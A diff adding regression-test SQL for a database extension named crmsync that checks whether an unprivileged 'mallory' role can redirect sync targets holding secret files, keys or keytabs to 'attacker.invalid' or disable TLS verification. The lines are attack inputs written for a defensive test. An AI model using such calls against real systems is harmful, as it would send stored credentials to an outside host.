@@ -77,6 +77,33 @@ SELECT crmsync.watch('l', 'crm.salary', 'amount', 'SELECT mallory.escalate() WHE
 SELECT * FROM crmsync.enable_link('l');
 RESET ROLE;
 
+-- The files in crmsync.secret_directory are a superuser's: nobody else says where they are sent to,
+-- unless crmsync.allowed_hosts, which is empty here, says how far they can get (185_secret_files.pl).
+SELECT crmsync.create_target('mail', 'ews', 'https://mail.invalid/EWS/Exchange.asmx', 'basic', 'service', 'file:exchange');
+SELECT crmsync.create_target('certified', 'ldap', 'ldaps://ldap.invalid', 'external', options => '{"cert_file": "client.pem", "key_file": "client.key"}');
+SET ROLE regress_crmsync_mallory;
+SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'basic', 'service', 'file:exchange');
+SELECT crmsync.create_target('mine', 'ews', 'https://mail.invalid/EWS/Exchange.asmx', 'basic', 'service', 'file:exchange');
+SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'oauth2', NULL, 'file:exchange', '{"client_id": "1", "tenant": "x.invalid"}');
+SELECT crmsync.create_target('mine', 'ldap', 'ldaps://attacker.invalid', 'external', options => '{"cert_file": "client.pem", "key_file": "file:client.key"}');
+SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'negotiate', options => '{"keytab": "service.keytab"}');
+SELECT crmsync.alter_target('exchange', secret => 'file:exchange');
+SELECT crmsync.alter_target('exchange', options => '{"key_file": "client.key"}');
+SELECT crmsync.alter_target('mail', secret => 'file:exchange');
+SELECT crmsync.alter_target('mail', url => 'https://attacker.invalid');
+SELECT crmsync.alter_target('mail', url => 'https://attacker.invalid', secret => 'file:exchange');
+SELECT crmsync.alter_target('mail', options => '{"tls_verify": false}', secret => 'file:exchange');
+SELECT crmsync.alter_target('mail', auth => 'ntlm');
+SELECT crmsync.alter_target('certified', url => 'ldaps://attacker.invalid');
+SELECT crmsync.alter_target('certified', options => '{"tls_verify": false}');
+-- What concerns no secret file is an administrator's, and so are secrets that they know.
+SELECT crmsync.alter_target('mail', options => '{"timeout": 30}');
+SELECT crmsync.create_target('mine', 'ews', 'https://mine.invalid', 'basic', 'service', 'my own', '{"ca_file": "ca.pem"}');
+SELECT crmsync.alter_target('mail', url => 'https://mine.invalid', secret => 'my own');
+SELECT crmsync.alter_target('certified', url => 'ldaps://mine.invalid', auth => 'none', reset => '{cert_file,key_file}');
+RESET ROLE;
+SELECT name, url, auth, options FROM crmsync.targets ORDER BY name;
+
 DROP EXTENSION crmsync;
 DROP SCHEMA mallory CASCADE;
 DROP SCHEMA crm CASCADE;
